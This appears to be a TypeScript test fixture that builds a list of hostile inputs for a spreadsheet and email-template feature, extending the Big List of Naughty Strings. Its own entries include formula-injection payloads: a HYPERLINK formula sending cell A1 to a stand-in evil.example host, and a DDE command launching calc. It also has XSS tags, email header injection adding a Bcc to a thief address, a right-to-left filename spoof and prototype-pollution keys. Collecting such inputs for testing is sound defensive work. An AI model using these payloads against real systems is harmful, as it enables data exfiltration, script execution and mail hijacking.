import naughty from "big-list-of-naughty-strings" with { type: "json" };

/** What somebody may type, paste or import into a cell, by what is hostile in it. */
const OURS: readonly string[] = [
  '=HYPERLINK("https://evil.example/?"&A1,"pay here")',
  '=IMPORTXML("https://evil.example","//a")',
  "+1+1",
  "@SUM(A1:A9)",
  '-2+3+cmd|" /C calc"!A0',
  "\t=1+1",
  "'=1+1",
  "＝1+1",
  '<img src=x onerror=alert(1)></table><script>alert("x")</script>',
  "</p></div></body><style>*{display:none}</style><!--",
  "Ada\r\nBcc: thief@evil.example\r\n\r\n<h1>Pay here</h1>",
  "Ada\n\tBcc: thief@evil.example",
  "Ada\u2028Bcc: thief@evil.example\u0085X-Evil: 1",
  'Ada" <thief@evil.example>, "x',
  "ada@customer.example, thief@evil.example",
  "ada@customer.example\r\nBcc: thief@evil.example",
  "=?UTF-8?B?QmNjOiB0aGllZkBldmlsLmV4YW1wbGU=?=",
  "x".repeat(10_000),
  "é😀".repeat(5_000),
  "A\ud800da \udc00Ltd",
  "\u202eLtd \u2066gnp.exe",
  "A\u0000d\u0007a\u001b[31m Ltd",
  "{{totalOverdue}} {{{payLink}}} {{#items}}",
  "\ue000items\ue001 \ue000howToPay\ue001",
  "[pay here](https://evil.example) ![x](https://evil.example/x.png)",
  "| a | b |\n|---|---|\n| c | d |",
  "javascript:alert(1)",
  "__proto__",
  "constructor",
];

/** The Big List of Naughty Strings (https://github.com/minimaxir/big-list-of-naughty-strings), and what our own cells may hold. */
export const HOSTILE_STRINGS: readonly string[] = [...new Set([...naughty, ...OURS])];
